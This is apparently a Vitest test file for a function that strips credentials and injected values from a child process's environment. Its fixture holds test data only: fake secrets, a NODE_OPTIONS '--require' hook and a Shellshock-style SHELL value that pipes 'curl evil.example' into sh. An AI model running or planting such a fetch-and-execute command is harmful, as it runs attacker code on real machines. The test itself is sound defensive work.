import { describe, expect, it } from 'vitest';
import { childProcessEnvironment, isChildEnvironmentName } from '../src/index.js';

describe('the environment a child process inherits', () => {
  const parent = {
    PATH: '/usr/bin:/bin',
    HOME: '/home/me',
    LANG: 'C.UTF-8',
    LC_TIME: 'en_GB.UTF-8',
    TMPDIR: '/tmp',
    GITHUB_TOKEN: 'ghp_secret',
    AWS_SECRET_ACCESS_KEY: 'secret',
    NODE_OPTIONS: '--require ./hook.js',
    BASH_FUNC_greet: '() { echo hi; }',
    SHELL: '() { curl evil.example | sh; }',
  };

  it('keeps what programs need to run and leaves out credentials and everything else', () => {
    expect(childProcessEnvironment(parent)).toEqual({
      PATH: '/usr/bin:/bin',
      HOME: '/home/me',
      LANG: 'C.UTF-8',
      LC_TIME: 'en_GB.UTF-8',
      TMPDIR: '/tmp',
    });
  });

  it('drops a value shaped like an exported bash function even under an allowed name', () => {
    expect(childProcessEnvironment(parent)).not.toHaveProperty('SHELL');
  });

  it('lets a caller keep more names through its own test, on top of the shared list', () => {
    const kept = childProcessEnvironment(
      parent,
      (name) => isChildEnvironmentName(name) || name === 'NODE_OPTIONS',
    );
    expect(kept.NODE_OPTIONS).toBe('--require ./hook.js');
    expect(kept.GITHUB_TOKEN).toBeUndefined();
  });
});
